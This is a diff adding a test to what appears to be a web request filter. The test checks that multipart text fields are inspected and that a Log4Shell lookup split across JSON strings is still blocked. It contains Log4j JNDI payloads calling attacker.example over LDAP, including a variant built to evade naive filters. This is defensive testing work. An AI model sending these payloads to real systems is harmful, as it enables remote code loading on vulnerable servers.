@@ -242,3 +242,34 @@ test('an injected filter failure answers 503 with FAIL_MODE=closed (default) and
   assert.equal(origin.seen[n].hash, sha256(body));
   assert.ok(open.logs.some((l) => l.decision === 'fail-open'));
 });
+
+test('multipart text fields are inspected; JSON is also read as raw text across string boundaries', async (t) => {
+  const w = await withWorker(t, {});
+  const payload = '${jndi:ldap://attacker.example/a}';
+  // Multipart carries field values unencoded; workerd parses the form.
+  const bad = new FormData();
+  bad.append('comment', payload);
+  let r = await send(w, `${BASE}/upload`, { method: 'POST', body: bad });
+  assert.equal(r.status, 403);
+  assert.equal(JSON.parse(r.body).part, 'multipart:comment');
+  // A file part is not a text field: its bytes pass, and the whole body
+  // reaches the origin intact.
+  const good = new FormData();
+  good.append('title', 'holiday');
+  good.append('file', new Blob([bigBytes(4096)]), 'photo.bin');
+  const n = origin.seen.length;
+  r = await send(w, `${BASE}/upload`, { method: 'POST', body: good });
+  assert.equal(r.status, 200);
+  assert.equal(origin.seen.length, n + 1);
+  assert.match(origin.seen[n].headers['content-type'], /^multipart\/form-data; boundary=/);
+
+  // Valid JSON whose raw text holds `${jndi:ldap://attacker.example/","b":"}`:
+  // no single string is a lookup, but an application that logs the raw body
+  // hands Log4j a lookup of `ldap://attacker.example/","b":"`, which connects
+  // to attacker.example: live.
+  const straddle = '{"a":"${jndi:ldap://attacker.example/","b":"}"}';
+  assert.doesNotThrow(() => JSON.parse(straddle));
+  r = await send(w, `${BASE}/api`, { method: 'POST', headers: { 'content-type': 'application/json' }, body: straddle });
+  assert.equal(r.status, 403);
+  assert.equal(JSON.parse(r.body).verdict, 'live');
+});
